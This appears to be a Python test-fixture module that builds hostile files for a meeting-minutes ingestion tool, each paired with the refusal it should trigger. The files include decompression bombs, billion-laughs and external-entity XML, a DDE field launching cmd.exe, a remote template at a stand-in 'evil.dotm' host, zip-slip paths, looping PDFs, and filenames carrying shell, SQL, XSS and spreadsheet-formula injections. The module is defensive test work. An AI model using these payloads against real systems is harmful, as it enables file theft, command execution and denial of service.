"""Files made to do harm, built here: what each is, and what must become of it.

Name -> (builder, part of the reason it is refused with; None where it is read for what it honestly holds).
"""

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
BODY = "<w:p><w:r><w:t>第1回 水瀬市環境審議会 議事録</w:t></w:r></w:p><w:p><w:r><w:t>原案のとおり承認した。</w:t></w:r></w:p>"
SECRET = "この行は他のファイルにある秘密です"


def docx(document: str | bytes, parts: dict[str, str | bytes] | None = None, *, level: int = 1) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", document)
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def word(inner: str = BODY, *, head: str = "") -> str:
    return f"{head}<w:document {W}><w:body>{inner}</w:body></w:document>"


def pdf(objects: list[bytes], *, trailer: bytes = b"/Root 1 0 R", xref: bytes | None = None) -> bytes:
    """Objects numbered from 1, with a sound table of places unless another one is given."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    if xref is None:
        xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        xref += b"".join(b"%010d 00000 n \n" % place for place in places)
        xref += b"trailer\n<< /Size %d %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out) + xref.replace(b"START", b"%d" % start) + b"startxref\n%d\n%%%%EOF\n" % start


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TEXT = stream(b"BT /F1 12 Tf 72 700 Td (Minutes of the council, first meeting, agenda and decisions) Tj ET")


def pages(count: int, *, box: bytes = b"0 0 595 842", content: bytes = TEXT) -> bytes:
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>" % box
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
            content,
            FONT,
        ]
        + [page] * count
    )


def deep_pages(depth: int) -> bytes:
    """A page below ``depth`` nodes, each the only child of the last."""
    nodes = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1) for number in range(2, depth + 2)]
    leaf = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def looping_pages() -> bytes:
    node = b"<< /Type /Pages /Count 100 /Kids [3 0 R 2 0 R] /Parent 3 0 R >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", node, node])


def looping_xref() -> bytes:
    """The table of places names itself as the one before."""
    return pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 0 /Kids [] >>"],
        xref=b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R /Prev START /XRefStm START >>\n",
    )


def flate_bomb() -> bytes:
    """A page whose content is so many blanks that they take gigabytes where each is a character, packed a thousandfold and then again."""
    packed = zlib.compress(zlib.compress(b" " * 200_000_000, 9), 9)
    return pages(1, content=stream(packed, b"/Filter [/FlateDecode /FlateDecode]"))


def self_drawing() -> bytes:
    """A form that draws itself, ten times."""
    form = stream(
        b"/X Do " * 10,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 3 0 R >> >>",
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /X 3 0 R >> >> >>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>", form, page,
            stream(b"/X Do"),
        ]
    )  # fmt: skip


LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a0 '笑笑笑笑笑笑笑笑笑笑'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
OUTSIDE = "<!DOCTYPE l [<!ENTITY x SYSTEM 'secret.txt'>]>"


def png(width: int, height: int) -> bytes:
    """A picture that says it is so large, with next to nothing in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 10_000_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def spans(count: int) -> str:
    """A table each of whose cells claims to cover thousands of others."""
    rows = "".join("<tr>" + "<td rowspan=65000>議" * 200 for _ in range(count))
    return f"<!DOCTYPE html><html><body><table>{rows}</table></body></html>"


def nested_tables(depth: int) -> str:
    cell = "<w:p><w:r><w:t>会議</w:t></w:r></w:p>"
    return word(f"<w:tbl><w:tr><w:tc>{cell}" * depth + f"</w:tc></w:tr></w:tbl>{cell}" * depth)


def wide_table(rows: int) -> str:
    row = '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p><w:r><w:t>欄</w:t></w:r></w:p></w:tc></w:tr>'
    return word(BODY + f"<w:tbl>{row * rows}</w:tbl>")


DDE = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
    '"/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)

HOSTILE: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "圧縮爆弾.docx": (lambda: docx(word("<w:p/>" + " " * 90_000_000), level=9), "展開すると大きくなりすぎる"),
    "圧縮爆弾2.docx": (lambda: docx(word(), {"word/styles.xml": b" " * 60_000_000}, level=9), "展開すると大きく"),
    "部品だらけ.docx": (lambda: docx(word(), {f"word/{n}.xml": "" for n in range(6000)}), "部品の多すぎる"),
    "笑い.docx": (lambda: docx(word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=LAUGHS)), "文書型宣言"),
    "笑い2.docx": (
        lambda: docx(word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=f"<!--{' ' * 9000}-->{LAUGHS}")),
        "中身の壊れた",  # libxml2 itself sees through it
    ),
    "笑い3.docx": (
        lambda: docx(word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", head=LAUGHS).encode("utf-16")), "中身の壊れた",
    ),
    "外の実体.docx": (lambda: docx(word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head=OUTSIDE)), "文書型宣言"),
    "外の実体2.docx": (
        lambda: docx(word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", head=f"<!--{' ' * 9000}-->{OUTSIDE}")),
        "文書型宣言",
    ),
    "外の実体.html": (
        lambda: f"{OUTSIDE.replace('l [', 'html [')}<html><body><p>議事録</p><p>&x;</p></body></html>".encode(), None,
    ),
    "入れ子の表.docx": (lambda: docx(nested_tables(40)), "表の入れ子が深すぎます"),
    "入れ子の表2.docx": (lambda: docx(nested_tables(3000)), "入れ子の深すぎる"),
    "広い表.docx": (lambda: docx(wide_table(2000)), None),
    "大きな欄.html": (lambda: spans(3).encode(), None),
    "大きな欄2.html": (lambda: spans(700).encode(), "表の欄が多すぎます"),
    "深い.html": (lambda: ("<html><body>議事録" + "<div>" * 100_000 + "議事録").encode(), "入れ子の深すぎる"),
    "深い引用.md": (lambda: (">" * 50_000 + " 議事録\n").encode(), None),
    "深い箇条.html": (lambda: ("<html><body>" + "<ul><li>" * 5000 + "議事録").encode(), "入れ子の深すぎる"),
    "数式.docx": (lambda: docx(word(BODY + DDE)), None),
    "マクロ.docm": (lambda: docx(word(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen" * 50}), None),
    "外のひな形.docx": (lambda: docx(word(), {"word/_rels/settings.xml.rels": REMOTE}), None),
    "外へ出る.docx": (
        lambda: docx(word(), {"../../escaped.txt": "x", "/escaped.txt": "x", "..\\escaped.txt": "x", "word/../../e": "x"}),
        None,
    ),
    "一万ページ.pdf": (lambda: pages(10_000), "ページが多すぎます"),
    "数の偽り.pdf": (lambda: pages(1).replace(b"/Count 1", b"/Count 9"), "ページを開けません"),
    "数の偽り2.pdf": (lambda: pages(1).replace(b"/Count 1 ", b"/Count 999999999 "), ""),
    "深いページ.pdf": (lambda: deep_pages(5000), ""),
    "回るページ.pdf": (looping_pages, ""),
    "回る目次.pdf": (looping_xref, ""),
    "巨大な紙.pdf": (lambda: pages(1, box=b"0 0 1000000000 1000000000"), None),
    "巨大な紙2.pdf": (lambda: pages(1, box=b"-1e38 -1e38 1e38 1e38"), ""),
    "巨大な絵.pdf": (
        lambda: pages(1, box=b"0 0 1000000 1000000", content=stream(b"0 0 900000 900000 re f")), "",
    ),
    "裏返しの紙.pdf": (lambda: pages(1, box=b"595 842 0 0"), None),
    "膨らむ流れ.pdf": (flate_bomb, ""),
    "巨大な画像.png": (lambda: png(100_000, 100_000), ""),
    "偽の画像.png": (lambda: png(8_000, 8_000), ""),
    "長い行.txt": (lambda: ("議題" + "１" * 400_000).encode(), None),
    "大きな文.txt": (lambda: "・原案のとおり承認した。\n".encode() * 1_000_000, "文字が多すぎます"),
    "空行だけ.txt": (lambda: b"a" + b"\n" * 2_500_000, None),
    "制御.txt": (lambda: ("第1回 会議 議事録\n" + "・原案のとおり承認した。\n" * 40 + "\x1b[2J\x1b]0;title\x07\x9b31m決定した。\u202e\n").encode(), None),
}  # fmt: skip
"""An empty reason: refused or read, as the library sees it; the point is that it ends, and soon."""

NAMES = (
    "改\n行.pdf", "\x1b[2J\x1b]0;題\x07端末.pdf", "\x9b31m赤.pdf", "上へ\\..\\..\\上へ.pdf", "上へ%2f..%2f..%2fx.pdf", "-rf.pdf", "$(touch x).pdf",
    "議事録\u202efdp.exe", "'; DROP TABLE meetings; --.pdf", "<img src=x onerror=alert(1)>.pdf", "=cmd|' C'!A0.pdf", "CON.pdf", "長" * 80 + ".pdf",
)  # fmt: skip
if os.name == "nt":  # whose file systems do not hold most of them
    NAMES = ("'; DROP TABLE meetings; --.pdf", "長" * 80 + ".pdf")
"""Names of files that cannot be read. A name cannot hold / or NUL; those that a browser sends: tests/unit/web/test_switch.py."""
